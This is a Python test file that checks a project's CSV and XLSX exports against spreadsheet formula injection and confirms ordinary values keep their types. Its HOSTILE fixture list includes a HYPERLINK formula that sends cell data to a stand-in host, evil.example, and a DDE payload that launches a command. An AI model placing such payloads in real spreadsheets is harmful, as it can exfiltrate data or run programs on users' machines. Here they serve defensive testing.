"""What is taken along as a file is read back as the words it was, and no cell is a formula."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from kotopolku.web.parts.exports import DANGEROUS, csv_file, xlsx_file

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+358 40 000 0000",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\u00a0=1",
    "＝1",
    "\0=1",
    "\x0b \x01=1",
]


def read_csv(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def read_xlsx(data):
    return list(load_workbook(io.BytesIO(data)).active.iter_rows())


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_is_a_text_in_both(value):
    (_head, (found,)) = read_csv(csv_file(["Nimi"], [[value]]))
    assert found.startswith("'")
    assert found[1:] == "".join(sign for sign in value if sign not in "\0\x01\x0b")
    (_head, (cell,)) = read_xlsx(xlsx_file("Taulukko", ["Nimi"], [[value]]))
    assert cell.data_type == "s"
    assert cell.value.startswith("'")


def test_names_numbers_and_days_stay_what_they_are():
    rows = [['Åke Öhman; "Ö"', "هدى", 5, -5, Decimal("12.50"), date(2026, 11, 24), None, True]]
    (_head, found) = read_csv(csv_file(list("abcdefgh"), rows))
    assert found == ['Åke Öhman; "Ö"', "هدى", "5", "-5", "12.50", "2026-11-24", "", "True"]
    (_head, cells) = read_xlsx(xlsx_file("Taulukko", list("abcdefgh"), rows))
    assert [cell.value for cell in cells][:5] == ['Åke Öhman; "Ö"', "هدى", 5, -5, 12.5]
    assert cells[5].value.date() == date(2026, 11, 24)


def test_a_heading_is_neutral_too_and_a_title_that_cannot_be_one_is_mended():
    assert read_csv(csv_file(["=1"], []))[0] == ["'=1"]
    assert (
        load_workbook(io.BytesIO(xlsx_file("A/B:[C]*?" + "x" * 40, ["a"], [])))
        .sheetnames[0]
        .startswith("ABC")
    )


@pytest.mark.slow
@given(st.text(max_size=30))
def test_no_text_at_all_becomes_a_formula(value):
    (_head, (found,)) = read_csv(csv_file(["x"], [[value]]))
    assert not found.lstrip(" \u00a0").startswith(DANGEROUS)
    cells = read_xlsx(xlsx_file("x", ["x"], [[value]]))
    assert all(cell.data_type != "f" for row in cells for cell in row)
